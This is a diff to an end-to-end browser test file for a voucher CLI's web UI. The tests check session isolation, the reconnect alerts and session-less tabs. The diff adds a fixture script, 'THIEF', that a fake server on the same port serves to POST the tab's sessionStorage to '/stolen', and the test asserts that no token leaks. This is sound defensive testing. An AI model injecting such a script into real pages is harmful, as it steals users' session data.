@@ -7,6 +7,7 @@ import { defaultSeed } from '../../../src/testing/options.js'
 import { built } from '../../support/cli/built-cli.js'
 import { closedPort } from '../../support/closed-port.js'
 import { type TestPage, useBrowser } from '../../support/page/browser.js'
+import { emptyListenerPage } from '../../support/page/listener-page.js'
 import { newLink } from '../../support/page/server.js'
 import { chunksOf } from '../../support/server/request-body.js'
 import { inFolder, type StandaloneServer, standaloneServer } from '../../support/server/server.js'
@@ -29,13 +30,18 @@ interface Received {
   readonly text: string
 }
 
+/** A page that sends the storage of its tab to its server. */
+const THIEF = `<script>fetch('/stolen', { method: 'POST', body: JSON.stringify(Object.entries(sessionStorage)) })</script>`
+
 /** Another program on the port: it accepts everything and keeps all that it receives. */
 async function stranger(port: number, respond: (request: IncomingMessage, body: string) => Promise<string> | string) {
   const received: Received[] = []
   const server: Server = createServer(async (request, response) => {
     const body = Buffer.concat(await chunksOf(request)).toString()
     received.push({ method: request.method, url: request.url, text: `${request.rawHeaders.join('\n')}\n${body}` })
-    response.writeHead(200, { 'content-type': 'application/json' }).end(await respond(request, body))
+    const isPage = request.method === 'GET'
+    response.writeHead(200, { 'content-type': isPage ? 'text/html' : 'application/json' })
+    response.end(isPage ? THIEF : await respond(request, body))
   })
   await new Promise<void>((resolve) => server.listen(port, '127.0.0.1', resolve))
   const close = async () => {
@@ -64,28 +70,30 @@ test('tab sends a stranger on its port no token, loads no view, and returns to i
     )
     await page.getByText('The server at this address does not know this tab').waitFor()
     await page.getByText('Stopped', { exact: true }).waitFor()
-    // A form and a view with files of their own, and a search: none of them asks the stranger.
+    // A form and a view with files of their own, and the palette: none of them asks the stranger.
     await page.getByRole('button', { name: 'Record a scenario …' }).click()
     await page.getByRole('link', { name: 'Faults', exact: true }).click()
     await page.getByText('Loading …').waitFor()
-    await page.getByLabel('Find').fill('user-1')
-    await page.keyboard.press('Enter')
+    await page.getByRole('button', { name: 'Find' }).click()
+    await page.getByText('The server does not respond.').waitFor()
+    // A link for a new tab: that tab loads from the stranger, without the session.
+    await page.getByRole('link', { name: 'Reviews', exact: true }).click({ modifiers: ['ControlOrMeta'] })
+    const stolen = () => other.received.find(({ url }) => url === '/stolen')?.text
+    await expect.poll(stolen).toMatch(/\n\[\]$/)
     const asked = other.received.length
     await expect.poll(() => other.received.length).toBeGreaterThan(asked)
     await other.close()
     // The browser itself may ask for the icon of the tab.
-    const urls = other.received.map(({ method, url }) => `${method} ${url}`).filter((it) => !it.endsWith('/icon.svg'))
-    expect(new Set(urls)).toEqual(new Set(['POST /_platform/ui/proof']))
+    const urls = other.received.map(({ method, url }) => `${method} ${url}`).filter((it) => !/\.(?:svg|ico)$/.test(it))
+    expect(new Set(urls)).toEqual(new Set(['POST /_platform/ui/proof', 'GET /_platform/ui/reviews', 'POST /stolen']))
     for (const { text } of other.received) {
       expect(text).not.toContain(token)
       expect(text.toLowerCase()).not.toContain('page-token')
     }
     const second = await standaloneServer({ ...options, port: first.port })
-    // The search waited for the server; its result replaces the view.
-    await page.getByRole('heading', { name: 'Find', exact: true }).waitFor()
-    await page.getByText('Live', { exact: true }).waitFor()
-    await page.getByRole('link', { name: 'Faults', exact: true }).click()
+    // The view waited for the server.
     await page.getByRole('heading', { name: 'Faults', exact: true }).waitFor()
+    await page.getByText('Live', { exact: true }).waitFor()
     expect(await tokenOf(page)).toBe(token)
     await second.close()
   }))
@@ -178,13 +186,59 @@ test('tab continues when the built server was killed and started again from its 
       const page = await browser.page()
       await page.goto((await run('open', '--no-browser')).trim())
       await page.getByText('Live', { exact: true }).waitFor()
+      await page.getByRole('button', { name: 'Record a scenario …' }).waitFor()
       process.kill(pid, 'SIGKILL')
       await page.getByText('Disconnected', { exact: true }).waitFor()
-      await run(...start)
+      // The view stays as it was, below the command that starts this very server.
+      const gone = page
+        .getByRole('alert')
+        .filter({ hasText: /^No server responds here since \d{4}-\d\d-\d\d [\d:]+ UTC/ })
+      await gone.getByText('this tab then goes on').waitFor()
+      await page.getByRole('button', { name: 'Record a scenario …' }).waitFor()
+      const command = String(await gone.getByRole('code').textContent())
+      expect(command).toMatch(/^voucherctl server start --port=\d+ --data=\S+ --detach$/)
+      await run(...command.split(' ').slice(1))
       await page.getByText('Live', { exact: true }).waitFor()
+      await gone.waitFor({ state: 'hidden' })
       await page.getByRole('link', { name: 'Faults', exact: true }).click()
       await page.getByText('No fault is on.').waitFor()
     } finally {
       await run('server', 'stop')
     }
   }))
+
+test('tab without a session names the command that opens its view, and the link of it does', () =>
+  inFolder(async (home) => {
+    const run = async (...args: string[]) => {
+      const ran = await built.run(args, home)
+      if (ran.exit !== 0) throw new Error(ran.stderr)
+      return ran.stdout
+    }
+    const { base_url } = JSON.parse(
+      await run('server', 'start', '--detach', '--port', String(await closedPort()), '--json'),
+    )
+    try {
+      const page = await browser.page()
+      await page.goto(`${base_url}/_platform/ui/vouchers?recipient_user_id=user-1`)
+      const alert = page.getByRole('alert')
+      await alert.getByText('This tab has no session.').waitFor()
+      expect(await alert.getByRole('code').textContent()).toBe(
+        `voucherctl open '/vouchers?recipient_user_id=user-1' --base-url ${base_url}`,
+      )
+      const link = await run('open', '/vouchers?recipient_user_id=user-1', '--base-url', base_url, '--no-browser')
+      await page.goto(link.trim())
+      await page.getByText('Live', { exact: true }).waitFor()
+      expect(page.url()).toBe(`${base_url}/_platform/ui/vouchers?recipient_user_id=user-1`)
+      expect(await page.getByLabel('Recipient').inputValue()).toBe('user-1')
+    } finally {
+      await run('server', 'stop')
+    }
+  }))
+
+test('tab without a session on the page of a listener names the command of a listener', async () => {
+  const listener = await emptyListenerPage()
+  onTestFinished(() => listener.close())
+  const page = await browser.page()
+  await page.goto(new URL('deliveries', listener.newLink()).href)
+  await page.getByText('voucherctl webhook listen --open', { exact: true }).waitFor()
+})
